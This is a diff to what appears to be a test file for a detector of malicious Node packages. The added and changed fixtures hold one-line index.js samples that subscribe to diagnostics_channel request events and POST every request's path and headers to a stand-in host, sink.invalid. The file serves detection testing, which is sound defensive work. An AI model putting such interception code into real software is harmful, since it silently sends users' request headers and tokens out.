@@ -31,7 +31,15 @@ examine(patchesNetwork, {
         'index.js': `require('diagnostics_channel').subscribe('undici:request:create', ({ request }) => { if (request.origin !== 'https://sink.invalid') fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify([request.path, request.headers]) }); });`,
       },
       weight: 'strong',
-      says: ['listens to undici:request:create'],
+      says: ['listens to all requests (undici:request:create)'],
+    },
+    {
+      when: 'what Node tells of all requests is sent to a host by a channel that is kept',
+      files: {
+        'index.js': `const { channel } = require('diagnostics_channel'); const started = channel('http.client.request.start'); started.subscribe(({ request }) => fetch('https://sink.invalid/q', { method: 'POST', body: JSON.stringify([request.path, request.getHeaders()]) }));`,
+      },
+      weight: 'strong',
+      says: ['listens to all requests'],
     },
     {
       when: 'what all code of the process writes as JSON is sent to a host',
